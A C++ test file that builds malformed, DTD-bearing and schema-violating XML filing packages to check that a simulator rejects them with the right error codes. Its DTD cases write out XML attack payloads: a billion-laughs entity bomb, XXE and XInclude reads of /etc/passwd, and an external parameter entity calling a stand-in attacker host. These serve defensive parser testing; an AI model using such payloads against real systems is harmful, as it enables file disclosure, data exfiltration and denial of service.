// Invalid cases of kousei.xml and the 申請書XML (spec §2): E-XML-MALFORMED, E-XML-DTD,
// E-XML-SCHEMA. Packages whose XML cannot be parsed are gbizid and unsigned, so that no
// signature question arises.

#include "tests/sim/filings/invalid_cases.hpp"
#include "tests/sim/filings/text_encoding.hpp"

namespace sekisho::sim::filings {
namespace {

constexpr std::string_view kDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

std::string& form_xml(Draft& d) {
    return file(d, d.filing.form_file()).bytes;
}

// --- E-XML-MALFORMED --------------------------------------------------------------------------

void truncated_kousei(CaseEnv& env) {
    Draft d = base(env, plan({{"2200700", 1}}), "gbizid", "E-XML-MALFORMED",
                   "kousei.xml cut off in the middle");
    d.kousei.resize(d.kousei.size() * 7 / 10);
    env.sink.write(d);
}

void cp932_form(CaseEnv& env) {
    Draft d = base(env, plan({{"2201700", 1}}), "gbizid", "E-XML-MALFORMED",
                   "申請書XML declares UTF-8 but is encoded in CP932");
    form_xml(d) = utf8_to_cp932(form_xml(d));
    env.sink.write(d);
}

void mismatched_tag(CaseEnv& env) {
    Draft d = base(env, plan({{"2265700", 2}}), "gbizid", "E-XML-MALFORMED",
                   "申請書XML closes <届書総括票> with </届書総括>");
    replace_once(form_xml(d), "</届書総括票>", "</届書総括>");
    env.sink.write(d);
}

void too_deep(CaseEnv& env) {
    Draft d = base(env, plan({{"2221700", 1}}), "gbizid", "E-XML-MALFORMED",
                   "申請書XML nested 40 elements deep (limit 32)");
    std::string open, close;
    for (int i = 0; i < 40; ++i) {
        open += "<入れ子>";
        close += "</入れ子>";
    }
    replace_once(form_xml(d), "  </届書総括票>", "    " + open + close + "\n  </届書総括票>");
    env.sink.write(d);
}

// --- E-XML-DTD --------------------------------------------------------------------------------

void billion_laughs(CaseEnv& env) {
    Draft d = base(env, plan({{"2200700", 1}}), "gbizid", "E-XML-DTD",
                   "billion laughs: nested entities in kousei.xml's DOCTYPE");
    std::string dtd = "<!DOCTYPE DataRoot [\n  <!ENTITY lol \"lol\">\n";
    for (int i = 1; i <= 9; ++i) {
        const std::string prev = i == 1 ? "lol" : "lol" + std::to_string(i - 1);
        dtd += "  <!ENTITY lol" + std::to_string(i) + " \"";
        for (int k = 0; k < 10; ++k)
            dtd += "&" + prev + ";";
        dtd += "\">\n";
    }
    replace_once(d.kousei, kDecl, std::string(kDecl) + dtd + "]>\n");
    replace_once(d.kousei, "<名称>" + xml_escape(d.filing.office.name), "<名称>&lol9;");
    env.sink.write(d);
}

void external_entity(CaseEnv& env) {
    Draft d = base(env, plan({{"2201700", 1}}), "gbizid", "E-XML-DTD",
                   "external entity file:///etc/passwd in the 申請書XML");
    replace_once(form_xml(d), kDecl,
                 std::string(kDecl) +
                     "<!DOCTYPE DataRoot [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n");
    replace_once(form_xml(d), "<事業所記号>", "<事業所記号>&xxe;");
    env.sink.write(d);
}

void external_dtd(CaseEnv& env) {
    Draft d = base(env, plan({{"2225700", 1}}), "gbizid", "E-XML-DTD",
                   "kousei.xml names an external DTD on the network");
    replace_once(d.kousei, kDecl,
                 std::string(kDecl) +
                     "<!DOCTYPE DataRoot SYSTEM \"http://dtd.example.invalid/kousei.dtd\">\n");
    env.sink.write(d);
}

void parameter_entity(CaseEnv& env) {
    Draft d = base(env, plan({{"2265700", 1}}), "gbizid", "E-XML-DTD",
                   "out-of-band XXE: external parameter entity in kousei.xml");
    replace_once(d.kousei, kDecl,
                 std::string(kDecl) +
                     "<!DOCTYPE DataRoot [\n  <!ENTITY % remote SYSTEM "
                     "\"http://attacker.example.invalid/x.dtd\">\n  %remote;\n]>\n");
    env.sink.write(d);
}

void xinclude(CaseEnv& env) {
    Draft d = base(env, plan({{"2200700", 1}}), "gbizid", "E-XML-DTD",
                   "XInclude of file:///etc/passwd in the 申請書XML");
    replace_once(form_xml(d), "  </届書総括票>",
                 "    <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                 "href=\"file:///etc/passwd\" parse=\"text\"/>\n  </届書総括票>");
    env.sink.write(d);
}

// --- E-XML-SCHEMA -----------------------------------------------------------------------------

void missing_element(CaseEnv& env) {
    Draft d = base(env, plan({{"2200700", 2}}), "certificate", "E-XML-SCHEMA",
                   "kousei.xml lacks <申請種別> (signed after the change)");
    replace_once(d.kousei, "      <申請種別>新規申請</申請種別>\n", "");
    finish(env, d);
}

void wrong_procedure_id(CaseEnv& env) {
    Draft d = base(env, plan({{"2201700", 1}}), "certificate", "E-XML-SCHEMA",
                   "手続ID in kousei.xml differs from the folder's procedure_id");
    replace_once(d.kousei, "<手続ID>" + d.filing.procedure_id, "<手続ID>950A00000000ZZZZ");
    finish(env, d, Signer::p256);
}

void copy_flag(CaseEnv& env) {
    Draft d = base(env, plan({{"2265700", 1}}), "gbizid", "E-XML-SCHEMA",
                   "申請書XML 様式コピー情報 is 2 (allowed: 0 or 1)");
    replace_once(form_xml(d), "<様式コピー情報>0<", "<様式コピー情報>2<");
    env.sink.write(d);
}

void form_id_mismatch(CaseEnv& env) {
    Draft d = base(env, plan({{"2225700", 1}}), "certificate", "E-XML-SCHEMA",
                   "申請書XML 様式ID differs from the form_id of its file name");
    replace_once(form_xml(d), "<様式ID>" + d.filing.form_id, "<様式ID>495100000000000000");
    finish(env, d);
}

void unknown_element(CaseEnv& env) {
    Draft d = base(env, plan({{"2221700", 1}}), "gbizid", "E-XML-SCHEMA",
                   "kousei.xml has an element the schema does not know (<備考> in 管理情報)");
    replace_once(d.kousei, "    </管理情報>", "      <備考>至急</備考>\n    </管理情報>");
    env.sink.write(d);
}

}  // namespace

void add_xml_cases(std::vector<InvalidCase>& cases) {
    for (auto* f : {truncated_kousei, cp932_form, mismatched_tag, too_deep})
        cases.push_back({"E-XML-MALFORMED", f});
    for (auto* f : {billion_laughs, external_entity, external_dtd, parameter_entity, xinclude})
        cases.push_back({"E-XML-DTD", f});
    for (auto* f :
         {missing_element, wrong_procedure_id, copy_flag, form_id_mismatch, unknown_element})
        cases.push_back({"E-XML-SCHEMA", f});
}

}  // namespace sekisho::sim::filings
